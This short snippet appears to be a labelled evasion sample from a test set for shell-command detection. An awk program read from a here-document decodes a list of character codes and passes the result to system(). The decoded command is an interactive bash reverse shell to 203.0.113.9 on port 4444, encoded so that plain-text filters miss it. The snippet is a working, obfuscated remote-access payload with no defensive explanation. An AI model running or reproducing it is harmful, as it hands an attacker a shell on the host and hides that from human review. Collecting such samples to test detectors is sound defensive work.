# evasion: the awk program comes from a here-document on /dev/stdin and builds its command from character codes with sprintf("%c")
# grade: hard; does: shell
awk -f /dev/stdin <<'AWK'
BEGIN {
	n = split("98 97 115 104 32 45 99 32 39 98 97 115 104 32 45 105 32 62 38 32 47 100 101 118 47 116 99 112 47 50 48 51 46 48 46 49 49 51 46 57 47 52 52 52 52 32 48 62 38 49 39", code, " ")
	for (i = 1; i <= n; i++)
		cmd = cmd sprintf("%c", code[i])
	system(cmd)
}
AWK
